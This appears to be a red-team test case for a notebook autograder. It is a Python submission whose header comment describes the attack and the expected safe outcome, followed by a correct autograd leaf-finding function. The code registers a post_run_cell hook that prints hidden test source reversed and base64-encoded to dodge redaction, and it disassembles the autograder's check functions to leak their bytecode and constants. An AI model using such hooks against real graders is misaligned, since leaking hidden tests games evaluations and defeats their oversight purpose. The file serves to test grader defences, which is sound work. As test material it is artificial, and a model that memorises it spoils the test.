# attack: leak the hidden tests: a post_run_cell hook prints the source of every cell that ran (the
#   tests cell with its hidden part) reversed and base64-encoded, and the cell disassembles every
#   check function it can find in sys.modules (dis, co_consts), so whole-line redaction cannot match;
#   the answer itself is right, so that the hidden tests run and can be leaked
# expect: full points are fine (the answer is right); no hidden test source, check bytecode or
#   constants in feedback; batch continues
import base64, dis, io, sys


def _leak(result=None):
    try:
        src = get_ipython().user_ns["In"][-1]
        print("RTLEAK<<SRCREV", src[::-1], ">>")
        print("RTLEAK<<SRCB64", base64.b64encode(src.encode()).decode(), ">>")
    except Exception as err:
        print("hook:", type(err).__name__)
    for name, mod in list(sys.modules.items()):
        if name.startswith("autograder"):
            for attr, fn in list(vars(mod).items()):
                if callable(fn) and hasattr(fn, "__code__"):
                    buf = io.StringIO()
                    try:
                        dis.dis(fn, file=buf)
                    except Exception:
                        pass
                    print("RTLEAK<<DIS", name, attr, base64.b64encode(buf.getvalue().encode()).decode()[:4000],
                          repr(fn.__code__.co_consts)[::-1][:2000], ">>")


get_ipython().events.register("post_run_cell", _leak)
_leak()


def find_leaves(t):
    """The .variable of every AccumulateGrad node reachable from t.grad_fn, each once."""
    if t.grad_fn is None:
        return []
    leaves, stack, seen = [], [t.grad_fn], set()
    while stack:
        node = stack.pop()
        if node in seen:
            continue
        seen.add(node)
        if isinstance(node, AccumulateGrad) and not any(v is node.variable for v in leaves):
            leaves.append(node.variable)
        stack.extend(n for n, _ in node.next_functions if n is not None)
    return leaves
